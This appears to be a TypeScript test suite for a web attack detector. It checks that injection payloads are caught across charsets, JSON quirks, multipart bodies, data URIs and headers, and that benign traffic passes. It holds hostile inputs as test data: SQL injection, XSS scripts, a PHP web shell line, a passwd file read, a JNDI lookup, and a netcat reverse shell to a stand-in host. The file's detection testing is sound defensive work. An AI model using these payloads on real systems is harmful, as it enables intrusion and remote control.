import fc from 'fast-check'
import { test } from 'tap'
import { observe, inJson, inspect } from './payload-observation.ts'
import { cheapScore, scoreObservation } from '../../src/detect/score.ts'
import { createPolicy } from '../../src/detect/policy.ts'
import type { PayloadFinding } from '../../src/detect/factors/payload.ts'

const policy = createPolicy({ sensitivity: 2, challengeThreshold: 40, blockThreshold: 75 })
const SQL = "x' UNION SELECT a, b FROM c-- "
const BLOCKS = 0.75

function post (contentType: string | string[], body: string | Uint8Array, url = '/items'): PayloadFinding {
  const types = typeof contentType === 'string' ? [contentType] : contentType
  return inspect({ url, headers: types.flatMap((type) => ['Content-Type', type]), body })
}

const JSON_BODY = JSON.stringify({ note: SQL })
const FORM_BODY = 'note=' + encodeURIComponent(SQL)
const DOCUMENT = `{ user(name: "${SQL}") { id } }`

test('a charset that is named makes nobody read another text than the parser does', (t) => {
  const charset = fc.constantFrom('utf-16', 'UTF-16LE', 'utf-16be', 'ucs-2', 'utf-32', 'utf-7', 'utf-8', 'iso-8859-1', 'windows-1252', 'shift_jis', 'gbk', 'big5', 'ibm037', 'cp500', 'x-unknown', 'iso-2022-jp', '')
  const parameter = charset.chain((name) => fc.constantFrom(`charset=${name}`, `charset="${name}"`, `charset='${name}'`, `CHARSET = ${name}`, `x=${name}`, `q=1; charset=${name}; charset=utf-8`, `charset*=${name}`))
  const kind = fc.constantFrom<[string, string]>(['application/json', JSON_BODY], ['application/x-www-form-urlencoded', FORM_BODY], ['application/graphql', DOCUMENT], ['text/plain', SQL], ['application/xml', `<a>${SQL}</a>`], ['', JSON_BODY])
  fc.assert(fc.property(kind, parameter, ([type, body], more) => post(`${type}; ${more}`, body, '/graphql').value >= BLOCKS), { numRuns: 800, seed: 3 })
  t.pass()
  t.end()
})

const WIDE: Record<string, (text: string) => Buffer> = {
  'utf-16le': (text) => Buffer.from(text, 'utf16le'),
  'utf-16be': (text) => Buffer.from(text, 'utf16le').swap16(),
  'utf-16': (text) => Buffer.from('\ufeff' + text, 'utf16le'),
  'utf-32le': (text) => Buffer.concat([...text].map((letter) => { const four = Buffer.alloc(4); four.writeUInt32LE(letter.codePointAt(0)!); return four })),
  'utf-32be': (text) => Buffer.concat([...text].map((letter) => { const four = Buffer.alloc(4); four.writeUInt32BE(letter.codePointAt(0)!); return four })),
  'utf-7': (text) => Buffer.from(text.replace(/[^A-Za-z0-9 ]/g, (letter) => `+${Buffer.from(letter, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`)),
  ibm037: (text) => Buffer.from([...text].map((letter) => EBCDIC[letter] ?? 0x40))
}
const EBCDIC: Record<string, number> = { "'": 0x7d, '-': 0x60, ',': 0x6b, ' ': 0x40, '"': 0x7f, ':': 0x7a, '{': 0xc0, '}': 0xd0 }
for (const [from, letters] of [[0x81, 'abcdefghi'], [0x91, 'jklmnopqr'], [0xa2, 'stuvwxyz'], [0xc1, 'ABCDEFGHI'], [0xd1, 'JKLMNOPQR'], [0xe2, 'STUVWXYZ']] as Array<[number, string]>) [...letters].forEach((letter, at) => { EBCDIC[letter] = from + at })

test('a body in another charset is read in it, by its name, its mark or its zeros', (t) => {
  for (const [name, encode] of Object.entries(WIDE)) {
    t.ok(post(`application/json; charset=${name}`, encode(JSON_BODY)).value >= BLOCKS, `JSON in ${name}`)
    t.ok(post(`text/plain; charset="${name}"`, encode(SQL)).value >= BLOCKS, `text in ${name}`)
    if (name.startsWith('utf-16') || name.startsWith('utf-32')) t.ok(post('application/json', encode(JSON_BODY)).value >= BLOCKS, `${name} without its name`)
  }
  const escaped = 'note=' + [...WIDE.ibm037!(SQL)].map((byte) => '%' + byte.toString(16).padStart(2, '0')).join('')
  t.ok(post('application/x-www-form-urlencoded; charset=ibm037', escaped).value >= BLOCKS, 'escapes in a form')
  t.ok(post('text/plain', Buffer.concat([Buffer.from('\xff ', 'latin1'), Buffer.from('＜script＞alert(1)＜/script＞')])).value >= BLOCKS, 'UTF-8 after a byte that is none')
  t.ok(post('application/xml', Buffer.from('\ufeff<?xml version="1.0" encoding="utf-16"?><order><item id="7">Lamp für Zoë</item></order>', 'utf16le')).value < 0.2)
  t.ok(post('application/json; charset=utf-16', Buffer.from('{"name":"Дом","city":"東京"}', 'utf16le')).value < 0.4)
  t.equal(post('application/json; charset=windows-1252', Buffer.from('{"name":"Zo\xeb \x93Lee\x94"}', 'latin1')).value, 0)
  t.end()
})

test('a charset that nobody here reads leaves the body beyond a bound', (t) => {
  t.equal(post('text/plain; charset=x-made-up', 'words').beyond, 'body')
  t.equal(post('text/plain; charset=utf-8', 'words').beyond, null)
  t.equal(post('text/plain; charset=iso-8859-1', 'words').beyond, null)
  t.end()
})

test('a body is judged as it is declared and as it looks', (t) => {
  const part = `--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n${SQL}\r\n--b--\r\n`
  const bodies: Record<string, string> = { json: JSON_BODY, form: FORM_BODY, part, xml: `<?xml version="1.0"?><a b="${SQL.replaceAll("'", '&apos;')}"/>`, text: SQL, document: DOCUMENT }
  const types = ['application/json', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=b', 'multipart/form-data', 'text/plain', 'application/xml', 'image/png', 'audio/mpeg', 'font/woff2', 'application/octet-stream', 'application/pdf', 'APPLICATION/JSON ; CHARSET=UTF-8', 'text/plain, application/json', 'application/json;application/x-www-form-urlencoded', '', 'nonsense']
  for (const [name, body] of Object.entries(bodies)) {
    for (const type of types) t.ok(post(type, body).value >= BLOCKS, `${name} as ${type}`)
    t.ok(post(['image/png', 'application/json'], body).value >= BLOCKS, `${name} of two types`)
    t.ok(post(['application/json', 'image/png'], body).value >= BLOCKS, `${name} of two types, turned`)
  }
  t.equal(post('application/x-www-form-urlencoded', JSON.stringify({ note: 'an ordinary note' })).value, 0)
  t.equal(post('text/plain', 'a=1&b=two').value, 0)
  t.end()
})

test('every string of JSON is judged: repeated keys, comments, commas too many, no quotes, no end', (t) => {
  const escaped = '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e'
  for (const body of [`{"a":"${escaped}","a":"benign"}`, `{"a":"benign","a":"${escaped}"}`, `{"x":{"a":{"b":"${escaped}"},"a":1}}`, `\ufeff{"a":"${escaped}"}`, `{"a":"${escaped}",}`, `{/* so */"a":"${escaped}"}`, `{"n":NaN,"a":"${escaped}"}`, `{a:'${escaped}'}`, `{"a":"${escaped}`, `{"a":1}\n{"a":"${escaped}"}`, `{"a":"b"} "${escaped}"`, `[1,,"${escaped}"]`, `{"a":"ok","a":{"query":"{ f(x: \\"${escaped.replaceAll('\\', '\\\\')}\\") }"}}`]) {
    t.ok(post('application/json', body).value >= BLOCKS, body)
    t.ok(inJson({ inner: body }).value >= BLOCKS || !body.endsWith('}'), `${body} in a string`)
  }
  const repeated = `{"query":${JSON.stringify(DOCUMENT)},"query":"{ me { id } }"}`
  t.ok(post('application/json', repeated, '/graphql').value >= BLOCKS, 'two documents in one request')
  t.ok(post('application/json', `{"query":"{ me { id } }","variables":{"n":${JSON.stringify(SQL)}},"variables":{}}`, '/graphql').value >= BLOCKS, 'two lots of variables')
  t.equal(post('application/json', '{"a":"one","a":"two","b":[{"a":1},{"a":2}]}').value, 0)
  t.ok(post('application/x-ndjson', '{"index":{"_id":1}}\n{"title":"It\'s a day","n":1}\n').value < 0.4)
  t.end()
})

test('parts are split where their boundary begins a line; what stands around them is text', (t) => {
  const head = 'Content-Disposition: form-data; name="a"\r\n\r\n'
  const type = 'multipart/form-data; boundary=b'
  t.ok(post(type, `--b\r\n${head}x--b${SQL}\r\n--b--\r\n`).value >= BLOCKS, 'within a line')
  t.ok(post(type, `--b\r\n${head}1\r\n--b--\r\n${SQL}`).value >= BLOCKS, 'after the last')
  t.ok(post(type, `${SQL}\r\n--b\r\n${head}1\r\n--b--\r\n`).value >= BLOCKS, 'before the first')
  t.ok(post(type, `--b\r\n${head}1\r\n--b--\r\n--b\r\n${head}${SQL}\r\n--b--\r\n`).value >= BLOCKS, 'a part after the last')
  t.ok(post('multipart/form-data; boundary=c; boundary=b', `--b\r\n${head}${SQL}\r\n--b--\r\n`).value >= BLOCKS, 'two boundaries')
  t.ok(post(type, '--b\r\nContent-Disposition: form-data; name="a"; filename="a.png"; filename="shell.php"\r\n\r\nx\r\n--b--\r\n').value >= BLOCKS, 'two file names')
  t.ok(post(type, `--b\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${SQL.replaceAll("'", '=27').replaceAll('S', '=53')}\r\n--b--\r\n`).value >= BLOCKS, 'quoted-printable')
  t.equal(post(type, `--b\r\n${head}an ordinary note\r\n--b--\r\n`).value, 0)
  t.end()
})

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64')
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')

test('a picture is what begins as one; text that calls itself a picture is judged', (t) => {
  for (const kind of ['image/png', 'image/gif', 'audio/mpeg', 'video/mp4', 'font/woff', 'application/pdf', 'application/octet-stream']) {
    for (const data of [SQL, Buffer.from(SQL).toString('base64'), Buffer.from('GIF89a' + SQL).toString('base64'), PNG.toString('base64') + ' ' + SQL, PNG.toString('base64') + SQL]) {
      t.ok(inJson({ picture: `data:${kind};base64,${data}` }).value >= BLOCKS, `${kind}: ${data}`)
    }
    t.ok(post(kind, SQL).value >= BLOCKS, `a body of ${kind}`)
    t.ok(post('multipart/form-data; boundary=b', `--b\r\nContent-Disposition: form-data; name="a"; filename="a.bin"\r\nContent-Type: ${kind}\r\n\r\n${SQL}\r\n--b--\r\n`).value >= BLOCKS, `a part of ${kind}`)
    t.ok(inJson({ note: 'GIF89a' + SQL }).value >= BLOCKS)
  }
  t.ok(post('image/gif', 'GIF89a' + SQL).value >= BLOCKS)
  t.ok(post('image/gif', Buffer.concat([GIF, Buffer.from(SQL)])).value >= BLOCKS, 'text after a picture')
  t.ok(post('image/gif', Buffer.concat([GIF, Buffer.from('<script>alert(document.cookie)</script>')])).value >= BLOCKS, 'code after a picture')
  t.ok(inJson({ picture: 'data:image/gif;base64,' + Buffer.concat([GIF, Buffer.from('<?php system($_GET["c"]); ?>')]).toString('base64') }).value >= BLOCKS, 'code in a picture')
  t.end()
})

test('real pictures, sounds and documents say nothing', (t) => {
  for (const [kind, bytes] of [['image/png', PNG], ['image/gif', GIF], ['image/jpeg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]), Buffer.from('JFIF\0\x01\x01\0\0\x01\0\x01\0\0'), PNG])], ['application/zip', Buffer.from('PK\x03\x04\x14\0\0\0\b\0eXYG[Content_Types].xml\x1c\0UT\t', 'latin1')]] as Array<[string, Buffer]>) {
    t.equal(inJson({ picture: `data:${kind};base64,` + bytes.toString('base64') }).value, 0, kind)
    t.equal(post(kind, bytes).value, 0, kind)
    t.equal(post('multipart/form-data; boundary=b', Buffer.concat([Buffer.from(`--b\r\nContent-Disposition: form-data; name="a"; filename="a.bin"\r\nContent-Type: ${kind}\r\n\r\n`), bytes, Buffer.from('\r\n--b--\r\n')])).value, 0, kind)
  }
  t.end()
})

test('headers of protocol carry protocol: text in any of them is judged', (t) => {
  const names = ['traceparent', 'tracestate', 'x-request-id', 'accept', 'accept-language', 'accept-encoding', 'cache-control', 'connection', 'dnt', 'expect', 'host', 'if-match', 'if-none-match', 'if-modified-since', 'if-range', 'keep-alive', 'max-forwards', 'origin', 'pragma', 'priority', 'range', 'sec-ch-ua', 'sec-ch-ua-platform', 'sec-ch-ua-model', 'sec-fetch-site', 'sec-fetch-user', 'sec-gpc', 'sec-websocket-key', 'te', 'trailer', 'upgrade', 'x-api-key', 'x-csrf-token', 'x-requested-with', 'content-disposition', 'authorization', 'date', 'content-length']
  for (const name of names) {
    for (const text of [SQL, '1 UNION SELECT name, pass FROM users', '; cat /etc/passwd', '<script>alert(1)</script>', '$' + '{jndi:ldap://192.0.2.1/a}', 'x; nc 192.0.2.1 80 -e /bin/sh']) t.ok(inspect({ headers: [name, text] }).value >= 0.55, `${name}: ${text}`)
  }
  t.end()
})

test('headers as clients send them say nothing', (t) => {
  const headers = ['accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7', 'accept-language', 'de-CH,de;q=0.9, en;q=0.8, *;q=0.1', 'sec-ch-ua', '"Not(A:Brand";v="8", "Chromium";v="144", "Google Chrome";v="144"', 'sec-ch-ua-platform', '"Windows"', 'sec-ch-ua-model', '"SM-G991B"', 'sec-fetch-user', '?1', 'traceparent', '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01', 'tracestate', 'rojo=00f067aa0ba902b7,congo=t61rcWkgMzE', 'x-request-id', '3f8a2c1e-9b7d-4e6f-a1b2-c3d4e5f60718', 'if-none-match', 'W/"67ab43", "54ed21"', 'range', 'bytes=0-499, -500', 'authorization', 'Digest username="Mufasa", realm="http-auth@example.org", uri="/dir/index.html?a=b", nonce="7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v", qop=auth, nc=00000001', 'authorization', 'Basic ' + Buffer.from("ana.o'neill@example.org:P@ss;w0rd|x").toString('base64'), 'content-disposition', 'attachment; filename="report 2026 (final).pdf"', 'priority', 'u=1, i', 'cache-control', 'no-cache, max-age=0', 'keep-alive', 'timeout=5, max=100', 'x-api-key', 'nk_live_4eC39HqLyjWDarjtT1zdp7dc']
  const found = inspect({ headers })
  t.same(found.evidence, [])
  t.equal(found.beyond, null)
  t.end()
})

test('what the client puts beyond a bound is said, in the head and in the body', (t) => {
  const padding = Array.from({ length: 4_200 }, (_, at) => 'word ' + at)
  t.equal(inspect({ url: '/x?' + 'a=b&'.repeat(600) }).beyond, 'head')
  t.equal(inspect({ headers: ['cookie', 'aa=bb;'.repeat(600)] }).beyond, 'head')
  t.equal(inspect({ headers: Array.from({ length: 600 }, (_, at) => at % 2 === 0 ? 'x-a' + at : 'b') }).beyond, 'head')
  t.equal(inJson(padding).beyond, 'body')
  t.equal(inJson(Object.fromEntries(padding.map((key, at) => [key, at]).concat([...Array(13_000).keys()].map((at) => ['k' + at, 1])))).beyond, 'body')
  t.equal(post('application/json', '['.repeat(200) + ']'.repeat(200)).beyond, 'body')
  t.equal(inspect({ headers: ['content-encoding', 'gzip'], body: 'x' }).beyond, 'body')
  t.equal(inspect({ headers: ['content-encoding', 'identity'], body: 'x' }).beyond, null)
  t.equal(inspect({ url: '/x?' + 'a=b&'.repeat(600), headers: ['content-encoding', 'br'], body: 'x' }).beyond, 'body', 'the body wins')
  t.equal(post('application/xml', '<a>' + '<b>x y</b>'.repeat(3_000) + '</a>').beyond, 'body')
  t.equal(inspect({ url: '/graphql', headers: ['content-type', 'application/json'], body: JSON.stringify({ query: '{ a(x: [' + '"b c" '.repeat(1_200) + ']) }' }) }).beyond, 'body')
  t.end()
})

test('remarks on what is left out on purpose are no bound that was passed', (t) => {
  t.equal(inspect({ url: '/' + 'ab'.repeat(300) + '?b=' + 'cd '.repeat(400) }).beyond, null)
  t.equal(post('image/png', PNG).beyond, null)
  t.equal(post('image/png', PNG).notInspected.length, 1)
  t.equal(inJson({ a: 'b'.repeat(200_000) }).beyond, null)
  t.end()
})

test('JSON is read from its beginning: padding after an attack hides nothing', (t) => {
  const padding = Object.fromEntries([...Array(5_000).keys()].map((at) => ['k' + at, 'some words ' + at]))
  t.ok(inJson({ first: SQL, ...padding }).value >= BLOCKS)
  t.ok(inJson([SQL, ...Object.values(padding)]).value >= BLOCKS)
  t.ok(inJson({ list: [{ deep: SQL }], ...padding }).value >= BLOCKS)
  t.end()
})

test('the score says what lies beyond; a score in a hurry read nothing and says nothing', (t) => {
  const over = observe({ url: '/x?' + 'a=b&'.repeat(600) })
  t.equal(scoreObservation(over, policy).beyond, 'head')
  t.equal(scoreObservation(observe({}), policy).beyond, null)
  t.equal(cheapScore(over, policy).beyond, null)
  t.end()
})
